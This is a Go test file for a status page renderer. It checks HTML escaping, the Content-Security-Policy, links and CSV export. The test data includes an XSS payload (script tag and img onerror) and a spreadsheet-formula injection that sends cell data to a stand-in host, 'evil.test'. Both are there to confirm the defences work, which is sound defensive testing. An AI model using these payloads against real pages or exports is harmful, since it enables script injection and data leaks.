package statuspage_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/csv"
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/asr-backend/asr-backend/service/overview"
	"github.com/asr-backend/asr-backend/service/statuspage"

	"golang.org/x/net/html"
)

const attack = `"><script>alert(1)</script><img src=x onerror=alert(2)>'&{{.}}`

func view() *statuspage.View {
	confidence, rate := 0.875, 0.05
	studio := &url.URL{Scheme: "https", Host: "studio.example.org", Path: "/ls"}
	project := statuspage.ProjectStatus{ID: 7, Title: attack, URL: "https://studio.example.org/ls/projects/7/data", Notes: []string{attack},
		Counts: map[overview.State]int{overview.Failed: 1, overview.Pushed: 260}, Attention: 1}
	v := &statuspage.View{
		Status: statuspage.Status{Version: "test", Ready: true, Projects: []statuspage.ProjectStatus{project}},
		Links:  statuspage.Links{Studio: studio, Asked: url.Values{"project": {"7"}, "search": {attack}, "limit": {"2"}, "offset": {"4"}}},
		Query:  overview.Query{Search: attack, Limit: 2, Offset: 4},
		Listed: true,
		Found: overview.Page{Total: 261, Attention: 1, Counts: project.Counts, Tasks: []overview.Task{
			{ID: 5, Project: 7, State: overview.Failed, Attention: true, File: attack, Reason: attack, Hint: attack, Version: "v", Push: "p", Updated: time.Now()},
			{ID: 6, Project: 7, State: overview.Pushed, File: "b.wav", LengthS: 3725, Percent: 100, Speed: 31.4, Confidence: &confidence, ErrorRate: &rate, Version: "v", Push: "p", Updated: time.Now()},
		}},
	}
	v.Alone = &v.Projects[0]
	return v
}

func write(t *testing.T, v *statuspage.View) (string, *html.Node) {
	t.Helper()
	var b bytes.Buffer
	if err := v.Write(&b); err != nil {
		t.Fatal(err)
	}
	doc, err := html.Parse(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	return b.String(), doc
}

// elements returns the elements of a name, and their attributes by name.
func elements(n *html.Node, name string) (out []map[string]string) {
	if n.Type == html.ElementNode && n.Data == name {
		attributes := map[string]string{}
		for _, a := range n.Attr {
			attributes[a.Key] = a.Val
		}
		out = append(out, attributes)
	}
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		out = append(out, elements(c, name)...)
	}
	return out
}

// text is what a reader sees of an element and all in it.
func text(n *html.Node) string {
	if n.Type == html.TextNode {
		return n.Data
	}
	var b strings.Builder
	for c := n.FirstChild; c != nil; c = c.NextSibling {
		b.WriteString(text(c) + " ")
	}
	return b.String()
}

// Names of files, titles and reasons are text, wherever they stand.
func TestWhatComesFromOutsideIsText(t *testing.T) {
	page, doc := write(t, view())
	if n := len(elements(doc, "script")); n != 1 {
		t.Errorf("%d scripts, want our own", n)
	}
	if n := len(elements(doc, "img")); n != 0 {
		t.Errorf("%d pictures", n)
	}
	if n := strings.Count(text(doc), attack); n < 5 {
		t.Errorf("%d of the title, name, reason, hint and note are readable as they are:\n%s", n, page)
	}
	for _, name := range []string{"a", "form", "input", "button", "svg", "rect", "tr", "td", "span"} {
		for _, attributes := range elements(doc, name) {
			for key, value := range attributes {
				if strings.HasPrefix(key, "on") || key == "style" || strings.HasPrefix(strings.ToLower(strings.TrimSpace(value)), "javascript:") {
					t.Errorf("<%s %s=%q>", name, key, value)
				}
			}
		}
	}
	if found := elements(doc, "input"); !slices.ContainsFunc(found, func(a map[string]string) bool { return a["name"] == "search" && a["value"] == attack }) {
		t.Errorf("the search is not kept: %v", found)
	}
}

// The header allows exactly the style and the script of the page.
func TestThePolicyAllowsThePageAndNothingElse(t *testing.T) {
	page, _ := write(t, view())
	policy := statuspage.Policy()
	for _, tag := range []string{"style", "script"} {
		m := regexp.MustCompile("(?s)<" + tag + ">(.*?)</" + tag + ">").FindStringSubmatch(page)
		if m == nil {
			t.Fatalf("no %s", tag)
		}
		digest := sha256.Sum256([]byte(m[1]))
		if want := fmt.Sprintf("%s-src 'sha256-%s'", tag, base64.StdEncoding.EncodeToString(digest[:])); !strings.Contains(policy, want) {
			t.Errorf("%s is missing in %s", want, policy)
		}
	}
	if strings.Contains(policy, "unsafe") || !strings.HasPrefix(policy, "default-src 'none'; ") || !strings.Contains(policy, "form-action 'self'") {
		t.Error(policy)
	}
	for _, m := range regexp.MustCompile(`(?:src|href)="(https?:[^"]*)"`).FindAllStringSubmatch(page, -1) {
		if !strings.HasPrefix(m[1], "https://studio.example.org/ls/") {
			t.Errorf("the page leads to %s", m[1])
		}
	}
	if !strings.Contains(page, `<noscript><meta http-equiv="refresh"`) {
		t.Error("without JavaScript the page stays as it is")
	}
}

func TestAPageHasFiguresAndLinks(t *testing.T) {
	page, doc := write(t, view())
	said := strings.Join(strings.Fields(text(doc)), " ")
	for _, want := range []string{"1:02:05", "100 %", "31×", "87.5 %", "5.0 %", "5–6 of 261", "Needs attention 1"} {
		if !strings.Contains(said, want) {
			t.Errorf("%q is missing in %s", want, said)
		}
	}
	var links []string
	for _, a := range elements(doc, "a") {
		links = append(links, a["href"])
	}
	search := url.QueryEscape(attack)
	for _, want := range []string{
		"https://studio.example.org/ls/projects/7/data", "https://studio.example.org/ls/projects/7/data?task=5",
		"?limit=2&offset=6&project=7&search=" + search, "?limit=2&offset=2&project=7&search=" + search,
		"?attention=1&limit=2&project=7&search=" + search, "?limit=2&project=7&search=" + search + "&state=failed",
		"?format=csv&limit=2&project=7&search=" + search, "?limit=2&project=7&search=" + search + "&sort=confidence",
	} {
		if !slices.Contains(links, want) {
			t.Errorf("no link to %s in %q", want, links)
		}
	}
	if strings.Contains(page, "<form method=\"post\"") || strings.Contains(page, `type="checkbox"`) {
		t.Error("what nobody may do is offered")
	}
}

func TestWhatPeopleMayDoIsOffered(t *testing.T) {
	v := view()
	v.Control, v.Links.Below = true, "../"
	_, doc := write(t, v)
	actions, boxes := []string{}, []string{}
	for _, b := range elements(doc, "button") {
		if b["formaction"] != "" {
			actions = append(actions, b["formaction"]+" of "+b["form"])
		}
	}
	if want := []string{"../jobs/retry of act", "../jobs/prioritize of act", "../jobs/cancel of act"}; !slices.Equal(actions, want) {
		t.Errorf("buttons %q, want %q", actions, want)
	}
	fields := map[string][]string{}
	for _, i := range elements(doc, "input") {
		fields[i["name"]] = append(fields[i["name"]], i["value"])
		if i["type"] == "checkbox" && i["name"] == "task" {
			boxes = append(boxes, i["form"]+i["value"])
		}
	}
	if !slices.Equal(boxes, []string{"act5", "act6"}) || !slices.Contains(fields["state"], "failed") || !slices.Contains(fields["project"], "7") {
		t.Errorf("ticks %q, fields %q", boxes, fields)
	}
	for _, back := range fields["return"] {
		if u, err := url.Parse(back); err != nil || u.Host != "" || u.Path != "/status" || u.Query().Get("search") != attack || u.Query().Get("offset") != "4" {
			t.Errorf("back to %q", back)
		}
	}
	if len(fields["return"]) != 2 {
		t.Errorf("back to %q", fields["return"])
	}
}

// A spreadsheet computes what begins like a formula.
func TestNoCellIsAFormula(t *testing.T) {
	table := statuspage.Table{Title: func(int64) string { return "@title" }}
	var b bytes.Buffer
	if err := table.Begin(&b); err != nil {
		t.Fatal(err)
	}
	half := 0.5
	for _, file := range []string{`=HYPERLINK("http://evil.test/"&A1)`, "+1", "-1", "@x", "\t=1", "a, \"b\"\nc.wav", "über.wav"} {
		one := overview.Task{ID: 5, Project: 7, File: file, State: overview.Failed, Attention: true, Reason: "=" + file, LengthS: 1.5, Confidence: &half, Updated: time.Unix(0, 0)}
		if err := table.Add(&one); err != nil {
			t.Fatal(err)
		}
	}
	if err := table.End(); err != nil {
		t.Fatal(err)
	}
	body, ok := strings.CutPrefix(b.String(), "\ufeff")
	if !ok {
		t.Error("spreadsheets take the text for another encoding")
	}
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil || len(rows) != 8 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("cell %q", cell)
			}
		}
	}
	if row := rows[7]; strings.Join(row[:13], "|") != "7|'@title|5|über.wav|failed|yes|1970-01-01T00:00:00Z|1.500|0|||0.5000|" {
		t.Errorf("row %q", row)
	}
	if rows[6][3] != "a, \"b\"\nc.wav" {
		t.Errorf("name %q", rows[6][3])
	}
}
